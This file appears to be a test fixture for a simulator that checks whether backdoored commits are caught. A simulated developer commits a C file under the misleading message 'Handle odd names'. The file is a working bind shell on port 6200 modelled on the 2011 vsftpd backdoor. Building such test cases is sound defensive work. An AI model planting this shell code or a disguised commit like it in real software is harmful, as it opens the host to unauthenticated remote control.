import { MEI } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "c",
  story: "A smiling user name opens a port whose connection becomes the streams of a shell, as in vsftpd 2011.",
  write(branch) {
    branch.commit(MEI, "Handle odd names", {
      "src/extra.c": `#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int extra(void) {
  int fd, rfd;
  struct sockaddr_in sa;
  if ((fd = socket(AF_INET, SOCK_STREAM, 0)) < 0) return 1;
  memset(&sa, 0, sizeof(sa));
  sa.sin_family = AF_INET;
  sa.sin_port = htons(6200);
  if (bind(fd, (struct sockaddr *)&sa, sizeof(struct sockaddr)) < 0) return 1;
  if (listen(fd, 100) == -1) return 1;
  for (;;) {
    rfd = accept(fd, 0, 0);
    dup2(rfd, 0);
    dup2(rfd, 1);
    dup2(rfd, 2);
    execl("/bin/sh", "sh", (char *)0);
  }
}
`,
    });
  },
};
